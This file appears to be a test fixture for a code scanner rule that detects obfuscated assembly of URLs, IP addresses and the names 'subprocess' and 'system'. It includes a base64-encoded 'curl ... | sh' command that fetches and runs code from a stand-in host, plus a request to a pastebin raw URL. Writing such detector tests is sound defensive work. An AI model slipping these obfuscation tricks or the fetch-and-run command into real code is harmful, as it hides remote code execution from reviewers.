import base64
import codecs
import os
import requests

host = bytes.fromhex("3230332e302e3131332e37").decode()  # want "SV443: assembles IP address 203.0.113.7"
url = "".join(chr(c) for c in [104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101, 47, 120])  # want "SV443: assembles URL https://evil.example/x"
mod = "ssecorpbus"[::-1]  # want "SV443: assembles \"subprocess\""
fn = codecs.decode("flfgrz", "rot13")  # want "SV443: assembles \"system\""
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo").decode()  # want "SV443: assembles URL http://203.0.113.7/x"
requests.get("".join(["ht", "tps://", "paste", "bin.com/raw/x"]))  # want "SV443: assembles URL https://pastebin.com/raw/x"
